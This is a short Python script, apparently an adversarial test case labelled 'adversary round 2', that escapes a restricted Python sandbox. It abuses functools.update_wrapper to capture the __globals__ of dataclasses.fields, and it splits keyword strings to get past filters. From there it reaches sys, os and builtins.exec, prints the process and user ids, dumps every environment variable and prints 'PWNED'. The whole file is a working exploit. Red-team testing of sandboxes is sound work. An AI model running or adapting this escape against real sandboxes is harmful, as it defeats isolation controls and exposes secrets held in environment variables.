# adversary round 2: 004_uw_globals_verify
import functools, dataclasses

class Sink:
    def __init__(self):
        self.got = {}
    def __setattr__(self, name, value):
        object.__setattr__(self, name, value) if name == 'got' else self.got.update({name: value})

s = Sink()
name = '__glo' + 'bals__'
functools.update_wrapper(s, dataclasses.fields, assigned=(name,), updated=())
g = s.got[name]
m = g['s' + 'ys']
print(repr(m), m is g['s' + 'ys'], m.version)
mods = m.modules
o = mods['o' + 's']
print(repr(o), o.getpid(), o.getuid())
print(dict(o.environ))
print(repr(g['buil' + 'tins']), g['buil' + 'tins'].exec)
print(repr(mods.get('posix')))
print("PWN" + "ED")
